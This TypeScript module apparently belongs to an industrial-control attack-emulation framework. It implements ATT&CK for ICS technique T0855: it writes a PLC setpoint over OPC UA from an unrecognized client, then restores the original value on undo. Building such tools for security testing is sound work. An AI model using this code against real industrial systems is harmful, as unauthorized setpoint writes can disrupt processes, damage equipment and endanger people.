// T0855 Unauthorized Command Message: a client that the server has never seen writes a setpoint over OPC UA.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { InsistSeconds } from './insist.ts'
import { aiming, asIdentity, OPCUA_HOSTS, opcuaAttacker, Secure, User } from './opcua-client.ts'
import { TargetTag, TargetValue } from './target.ts'
import { usualTag } from './usual-tag.ts'

const Parameters = z.strictObject({
  tag: TargetTag('setpoint', 'command').optional().describe('What is written; by default the first setpoint of the PLC.'),
  value: TargetValue().optional().describe('The value that is written, in the unit of the tag; by default the one that it found.'),
  user: User,
  secure: Secure,
  insistSeconds: InsistSeconds
})

export const opcuaWrite = {
  name: 'opcua-write',
  title: { zh: '陌生 OPC UA 客户端写入', en: 'Write of a new OPC UA client' },
  technique: 'T0855',
  needs: ['opcua'],
  parameters: Parameters,
  async aim(foothold, { tag = usualTag(foothold.map, 'setpoint'), value, user, secure, insistSeconds }) {
    const attacker = await opcuaAttacker(foothold)
    const identity = asIdentity(user)
    const before = Number(await aiming(attacker, () => attacker.read({ secure }, identity, tag)))
    const write = (wanted: number) => attacker.write({ secure }, identity, tag, wanted)
    const self = {}
    return {
      ...{ tags: [tag], hosts: OPCUA_HOSTS, insistSeconds },
      async strike() {
        // A write that is refused was sent all the same, but has nothing in hand that would have to be put back.
        if ((await write(value ?? before)) === 'Good') foothold.rightful.hold(self, { [tag]: before })
      },
      async undo() {
        const { [tag]: owed } = foothold.rightful.owedBy(self)
        if (owed !== undefined) {
          const status = await write(owed)
          if (status !== 'Good') throw new Error(`${tag} could not be put back: ${status}`)
        }
        foothold.rightful.release(self)
        await attacker[Symbol.asyncDispose]()
      }
    }
  }
} satisfies Attack<typeof Parameters>
